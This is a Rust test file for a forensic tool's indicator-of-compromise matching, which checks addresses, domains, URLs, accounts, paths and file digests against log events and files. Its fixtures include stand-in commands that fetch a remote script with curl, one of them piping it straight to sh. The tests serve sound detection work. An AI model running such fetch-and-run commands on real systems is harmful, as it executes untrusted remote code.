//! Indicators in events, paths, digests and other findings.

use crate::found::Found;
use crate::testing::{Told, found_with, titles, view};
use crate::{Detector, Options};
use kanshiki_filesystem::View;
use kanshiki_model::{Evidence, Severity, Value};
use kanshiki_testkit::{tempdir, write_file};

/// What is found with these indicators: in contents first, as in an examination.
fn found(view: &View, events: &[Told], list: &str) -> Found {
    let place = tempdir();
    let path = place.path().join("iocs.txt");
    write_file(&path, list);
    let options = Options { indicators: vec![path], ..Options::default() };
    let both: Detector = |image, found| {
        crate::contents::find(image, found)?;
        super::find(image, found)
    };
    found_with(view, events, both, &options)
}

fn events() -> Vec<Told> {
    let event = |kind, time, message: &str, address: &str, fields| Told {
        path: "/var/log/auth.log",
        kind,
        time,
        message: message.to_owned(),
        address: address.to_owned(),
        user: "anna".to_owned(),
        fields,
        ..Told::default()
    };
    vec![
        event("sshd.failed", 1000, "Failed password for anna from 203.0.113.77 port 4 ssh2", "203.0.113.77", vec![]),
        event("sshd.failed", 1010, "Failed password for anna from 203.0.113.77 port 4 ssh2", "203.0.113.77", vec![]),
        event("shell.command", 1020, "curl -s http://dl.evil.example/x.sh", "", vec![]),
        event("web.request", 1030, "GET /", "192.0.2.1", vec![("referer", Value::Text(b"https://ok.example/"))]),
    ]
}

#[test]
fn addresses_and_domains_are_found_in_events_with_first_and_last_time() {
    let list =
        "203.0.113.0/24 # the scanner\nevil.example\nhxxp://dl.evil[.]example/x.sh\n198.51.100.1\nother.example\n";
    let found = found(&view(&[("/etc/hostname", "quay\n")]), &events(), list);
    assert_eq!(
        titles(&found),
        [
            "medium lists.indicator: ipv4 203.0.113.0/24 of the indicators iocs.txt: 2 events",
            "medium lists.indicator: domain evil.example of the indicators iocs.txt: 1 event",
            "high lists.indicator: url dl.evil.example/x.sh of the indicators iocs.txt: 1 event",
        ]
    );
    let first = &found.findings[0];
    assert_eq!(first.times, (Some(1_000_000_000_000), Some(1_010_000_000_000)));
    assert_eq!(first.explanation, "It is number 1 of iocs.txt: the scanner. Events: 2 sshd.failed.");
    assert!(first.evidence.iter().all(|it| matches!(it, Evidence::Event { .. })) && first.evidence.len() == 2);
    let row = found.inventory.iter().find(|row| row.kind == "list").unwrap();
    assert!(row.facts.contains("\"indicators\":5,\"indicators_found\":3"), "{}", row.facts);
}

#[test]
fn accounts_and_paths_are_found_and_what_is_not_looked_for_is_told() {
    let list = "kind,value,findings\naccount,anna,a\naccount,otto,a\npath,/var/log/auth.log,a\npath,/tmp/run,a\nregkey,HKLM,c\n";
    let found = found(&view(&[("/tmp/run", "x")]), &events(), list);
    // The table of files of this test has the log alone.
    assert_eq!(
        titles(&found),
        [
            "low lists.indicator: account anna of the indicators iocs.txt: 4 events",
            "medium lists.indicator-file: path /var/log/auth.log of the indicators iocs.txt: 1 file"
        ]
    );
    assert_eq!(found.issues.len(), 1);
    assert!(found.issues[0].message.contains("line or object 6: `regkey HKLM`"), "{:?}", found.issues[0]);
}

#[test]
fn a_digest_is_found_in_any_file_and_addresses_in_what_other_findings_name() {
    let script = "#!/bin/sh\ncurl -s http://203.0.113.9/m | sh\n";
    let mut hasher = kanshiki_model::Hasher::new(kanshiki_model::Algorithm::Sha1);
    hasher.update(script.as_bytes());
    let list = format!("{}\n203.0.113.9\n", hasher.finish().to_hex());
    let found = found(&view(&[("/opt/get", script), ("/opt/other", "echo\n")]), &[], &list);
    let told: Vec<_> = found.findings.iter().filter(|it| it.rule.id.starts_with("lists.")).collect();
    assert_eq!(told.len(), 2, "{:?}", titles(&found));
    assert_eq!(
        (told[0].title.as_str(), told[0].severity),
        ("file of the indicators iocs.txt: /opt/get", Severity::High)
    );
    assert!(told[0].indicators.iter().any(|it| it.kind == "sha256"));
    assert!(told[1].title.contains("ipv4 203.0.113.9") && told[1].title.contains("other finding"), "{}", told[1].title);
}
